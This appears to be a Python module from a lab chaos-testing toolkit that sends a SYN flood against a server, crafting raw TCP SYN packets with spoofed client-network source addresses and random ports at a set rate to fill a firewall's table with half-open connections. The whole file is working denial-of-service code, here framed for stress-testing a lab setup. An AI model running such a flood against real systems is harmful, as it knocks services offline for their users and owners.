"""A small SYN flood for the lab: ``python -m chaos.flood --server IP ...``.

Runs in the lab's client namespace.  Sends TCP SYNs from ``--sources``
spoofed addresses of the client network (from ``.100`` up; nobody answers
ARP for them, so the server's SYN-ACKs die at the router and every SYN
leaves a half-open flow in the firewall's table) with random source ports,
at ``--rate`` per second for ``--seconds``.  Raw socket with
``IP_HDRINCL``: the kernel fills in the IP checksum and ID; the TCP
checksum is computed here.  Needs root.  Prints one JSON line at the end.

:func:`syn_packet` is pure (seeded by the caller's ``random.Random``).
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    """An IPv4 + TCP SYN (MSS option), TCP checksum set, IP checksum left to the kernel."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    options = struct.pack("!BBH", 2, 4, 1460)
    offset = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset << 4, 0x02, 64240, 0, 0)
    tcp += options
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    csum = _checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, s, d
    )
    return ip + tcp


def sources(network: str, count: int) -> list[str]:
    net = ipaddress.ip_network(network)
    hosts = [h for h in net.hosts() if int(h) - int(net.network_address) >= 100][:count]
    if len(hosts) < count:
        raise ValueError(f"{network} has no {count} addresses from .100 on")
    return [str(h) for h in hosts]


def flood(server: str, port: int, srcs: list[str], rate: float, seconds: float, seed: int) -> int:
    rng = random.Random(seed)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent = 0
    start = time.monotonic()
    try:
        while (now := time.monotonic()) < start + seconds:
            due = int((now - start) * rate) + 1
            while sent < due:
                pkt = syn_packet(
                    rng.choice(srcs), server, rng.randint(1024, 65535), port, rng.getrandbits(32)
                )
                try:
                    sock.sendto(pkt, (server, 0))
                except BlockingIOError:
                    break  # the queue is full: the flood is at its limit
                sent += 1
            time.sleep(0.001)
    finally:
        sock.close()
    return sent


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m chaos.flood", description=__doc__)
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, default=8000)
    p.add_argument("--source-net", required=True, help="the client network, e.g. 10.231.1.0/24")
    p.add_argument("--sources", type=int, default=150)
    p.add_argument("--rate", type=float, default=2000.0, help="SYNs per second")
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("--seed", type=int, default=1)
    args = p.parse_args(argv)
    if not 1 <= args.rate <= 100_000 or not 0 < args.seconds <= 3600:
        p.error("--rate must be 1..100000 and --seconds in (0, 3600]")
    try:
        srcs = sources(args.source_net, args.sources)
    except ValueError as e:
        p.error(str(e))
    t0 = time.monotonic()
    sent = flood(args.server, args.port, srcs, args.rate, args.seconds, args.seed)
    elapsed = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "sources": len(srcs)}))
    if sent < args.rate * args.seconds * 0.5:
        print(f"flood: sent only {sent} SYNs", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
